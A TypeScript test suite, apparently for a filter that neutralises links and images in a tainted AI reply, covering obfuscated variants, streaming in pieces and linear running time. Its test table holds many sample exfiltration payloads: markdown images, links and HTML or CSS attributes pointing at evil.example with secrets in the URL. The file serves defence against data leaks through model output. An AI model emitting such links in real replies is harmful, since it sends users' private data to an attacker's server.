import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import { LinkStream } from "../../../governance/detection/link-stream.ts";
import { runs } from "../../support/effort.ts";

const read = "https://news.example/?page=2";
const rules = {
  showsImagesOf: (host: string) => host === "cdn.example",
  hasRead: (url: string) => read.includes(url),
};

function whole(text: string): { shown: string; changes: number } {
  const stream = new LinkStream(rules);
  const shown = stream.take(text) + stream.end();
  return { shown, changes: stream.changes };
}

const changed: readonly (readonly [text: string, shown: string])[] = [
  ["See ![a cat](https://evil.example/x.png?d=secret) there", "See a cat (evil.example) there"],
  ["![](https://evil.example/secret.png)", "evil.example"],
  ['![x](<https://evil.example/a> "title")', "x (evil.example)"],
  ["![x](//evil.example/a?b)", "x (evil.example)"],
  ["![x](https&#58;//evil.example/a)", "x (evil.example)"],
  ["![x](https:\\/\\/evil.example/a)", "x (evil.example)"],
  ["[here](https://evil.example/?d=secret)", "[here]()"],
  ["[here](https://evil.example/#secret) and", "[here]() and"],
  ["[here](https&colon;//evil.example/&quest;d=secret)", "[here]()"],
  ["[here](//evil.example/?d=secret)", "[here]()"],
  ["go to https://evil.example/p?d=secret.", "go to evil.example."],
  ["go to HTTPS://evil.example/p?d=secret", "go to evil.example"],
  ["(https://evil.example/p?d=secret)", "(evil.example)"],
  ["wordhttps://evil.example/p?d=secret", "evil.example"],
  ["<https://evil.example/p?d=secret>", "<evil.example>"],
  ["https://secret@evil.example/", "evil.example"],
  ["ftp://evil.example/?secret", "evil.example"],
  ["mailto:eve@evil.example?body=secret", "[link]"],
  ["[r]: https://evil.example/secret.png\n![x][r]", "[r]: \n![x][r]"],
  ['<img src="https://evil.example/secret.png">', "evil.example"],
  ["<img src=//evil.example/secret>", "evil.example"],
  ["<img srcset='https://cdn.example/a 1x, https://evil.example/b 2x'>", "cdn.example"],
  ['<div><a href="https://evil.example/?d=secret">x</a></div>', "<div><a>x</a></div>"],
  ['<td background="https://evil.example/x">', "evil.example"],
  ['<p style="background:url(https://evil.example/x)">', "evil.example"],
];
const kept: readonly string[] = [
  "Nothing to see. 1 < 2, a!b, [x], [x](y), ![x](y.png), // a comment? and a/b/c",
  "![x](https://cdn.example/a.png?size=2)",
  "[here](https://evil.example/page)",
  "https://evil.example/page",
  `Page two: ${read}`,
  `[two](${read})`,
  "![x](data:image/png;base64,AAAA)",
  '<img src="/local.png?x=1"> <br> <https://a.example/b>',
  '<p style="color:red">x</p>',
  "mailto:ann@a.example",
  "const url = a ? b : c; // see https://a.example/b",
  "Ratio 3:4, C:\\dir, 12:30, and http: alone",
  `![${"x".repeat(600)}](https://a.example/b)`,
];

describe("links and images of a tainted reply", () => {
  for (const [text, shown] of changed)
    test(`a stream changes ${text.slice(0, 70).replaceAll("\n", " ")}`, () => {
      const found = whole(text);

      assert.equal(found.shown, shown);
      assert.ok(found.changes > 0);
    });

  for (const text of kept)
    test(`a stream keeps ${text.slice(0, 60)}`, () => {
      assert.deepEqual(whole(text), { shown: text, changes: 0 });
    });

  test("the result is the same for every division into pieces", () => {
    const parts = [
      ...changed.map(([text]) => text),
      ...kept,
      " ",
      "\n",
      "![",
      "](",
      "https://",
      "<img ",
      "]:",
      "x".repeat(300),
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...parts), { minLength: 1, maxLength: 6 }),
        fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 200 }),
        (chosen, sizes) => {
          const text = chosen.join("");
          const stream = new LinkStream(rules);
          let shown = "";
          for (let at = 0, next = 0; at < text.length; next++) {
            const size = sizes[next % sizes.length] as number;
            shown += stream.take(text.slice(at, at + size));
            at += size;
          }
          shown += stream.end();
          assert.equal(shown, whole(text).shown);
        },
      ),
      { numRuns: runs(300) },
    );
  });

  test("the work is linear for texts without an end", () => {
    for (const unit of ["![", "](", "<a", "h", "https://", "//", "]:", "[a](", "![x](https://a.b/", "<img src="]) {
      const text = unit.repeat(Math.ceil(100_000 / unit.length));
      const stream = new LinkStream(rules);
      let longest = 0;
      for (let at = 0; at < text.length; at += 1_000)
        longest = Math.max(longest, stream.take(text.slice(at, at + 1_000)).length);
      assert.ok(stream.end().length < 10_000, unit);
      assert.ok(longest <= 10_000);
    }
  });
});
